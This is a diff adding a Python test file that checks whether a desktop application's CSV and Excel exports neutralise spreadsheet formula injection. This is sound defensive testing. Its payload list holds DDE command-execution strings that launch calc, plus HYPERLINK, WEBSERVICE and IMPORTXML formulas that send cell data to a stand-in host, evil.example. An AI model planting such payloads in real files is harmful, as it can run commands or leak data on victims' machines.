@@ -1,0 +1,132 @@
+"""Texts that a spreadsheet would run, in every column of an export: they stay texts to whoever reads the file."""
+
+import csv
+import io
+import re
+import zipfile
+
+import openpyxl
+from python_calamine import CalamineWorkbook
+
+from tests.export.making import SHEETS, report, row, write
+from tests.faults.row import Bench, Fault, Observed
+from tests.faults.scene import SWEDISH
+from vitec_desktop.connect.cancellation import Cancellation
+from vitec_desktop.connect.shapes import ListKind
+from vitec_desktop.export.csv_files import write_csv
+from vitec_desktop.report.columns import Kind
+from vitec_desktop.report.lists import COLUMNS, LIST_NAMES
+from vitec_desktop.report.report import Report, Row
+
+_GROUP = "formulas"
+
+# Payloads that are known from reports about spreadsheets and CSV files, and the characters that begin a formula.
+PAYLOADS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
+    '=WEBSERVICE("http://evil.example/"&A1)',
+    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "'=1+1",
+    '"=1+1',
+    ";=1+1",
+    ",=1+1",
+    "＝1+1",
+    "＋1+1",
+    "\ufeff=1+1",
+    "{=1+1}",
+    "_x003D_1+1",
+    "%0A=1+1",
+)
+_TEXTS = (Kind.TEXT, Kind.LONG_TEXT)
+# A tab or a line's end before it does not keep Excel from computing; a space does.
+_BEGINS_A_FORMULA = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
+_FORMULA = re.compile(rb"<f[ >/]")
+
+
+def _in_a_workbook(bench: Bench) -> Observed:
+    target = bench.folder / "Tips och leads.xlsx"
+    write(_report(), target)
+    cells = 0
+    book = openpyxl.load_workbook(target)
+    calamine = CalamineWorkbook.from_path(target)
+    for kind, name in SHEETS.items():
+        places = [place for place, column in enumerate(COLUMNS[kind]) if column.kind in _TEXTS]
+        read = calamine.get_sheet_by_name(name).to_python(skip_empty_area=False)
+        for number, payload in enumerate(PAYLOADS):
+            for place in places:
+                cell = book[name].cell(number + 2, place + 1)
+                assert cell.data_type in ("s", "inlineStr"), (name, payload, cell.data_type)
+                assert _same(str(cell.value), payload), (payload, cell.value)
+                assert _same(str(read[number + 1][place]), payload), (payload, read[number + 1][place])
+                cells += 1
+    book.close()
+    with zipfile.ZipFile(target) as archive:
+        for name in (
+            f"xl/worksheets/sheet{number + 1}.xml"
+            for number, title in enumerate(book.sheetnames)
+            if title in SHEETS.values()
+        ):
+            assert not _FORMULA.search(archive.read(name)), name
+    note = f"{len(PAYLOADS)} payloads in {cells} cells, read by openpyxl and calamine"
+    return Observed("", None, "every text as it was; no formula", figures={"payloads tried": len(PAYLOADS)}, note=note)
+
+
+def _in_csv_files(bench: Bench) -> Observed:
+    """Read as Excel does: a cell that begins like a formula is one, whatever stands around it in the file."""
+    folder = bench.folder / "csv"
+    write_csv(_report(), folder, SWEDISH, program_version="1", cancellation=Cancellation())
+    cells = 0
+    for kind in ListKind:
+        name = SWEDISH.text("Lists", LIST_NAMES[kind])
+        text = (folder / f"{name}.csv").read_bytes().decode("utf-8-sig")
+        read = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]
+        places = [place for place, column in enumerate(COLUMNS[kind]) if column.kind in _TEXTS]
+        for values, payload in zip(read, PAYLOADS, strict=True):
+            for place in places:
+                cell = values[place]
+                assert cell[:1] not in _BEGINS_A_FORMULA, cell
+                assert _same(cell, payload) or _same(cell, f"'{payload}"), (payload, cell)
+                cells += 1
+    note = f"{len(PAYLOADS)} payloads in {cells} cells"
+    return Observed("", None, "every text as it was, an apostrophe before a risky one", note=note)
+
+
+def _report() -> Report:
+    tables = {kind: [_spoilt(kind, number, payload) for number, payload in enumerate(PAYLOADS)] for kind in ListKind}
+    return report(tables)
+
+
+def _spoilt(kind: ListKind, number: int, payload: str) -> Row:
+    values = row(kind, number)
+    return tuple(
+        payload if column.kind in _TEXTS else value for column, value in zip(COLUMNS[kind], values, strict=True)
+    )
+
+
+def _same(read: str, payload: str) -> bool:
+    """As it was; one of the readers leaves OOXML's own escapes in, and a carriage return is a line's end in XML."""
+    plain = read.replace("_x000D_", "\r").replace("_x005F_", "_")
+    return plain.replace("\r", "\n") == payload.replace("\r", "\n")
+
+
+FAULTS = (
+    Fault(
+        _GROUP,
+        "in every text column of CSV files",
+        _in_csv_files,
+        "",
+        None,
+        "every text as it was, an apostrophe before a risky one",
+    ),
+    Fault(_GROUP, "in every text column of a workbook", _in_a_workbook, "", None, "every text as it was; no formula"),
+)
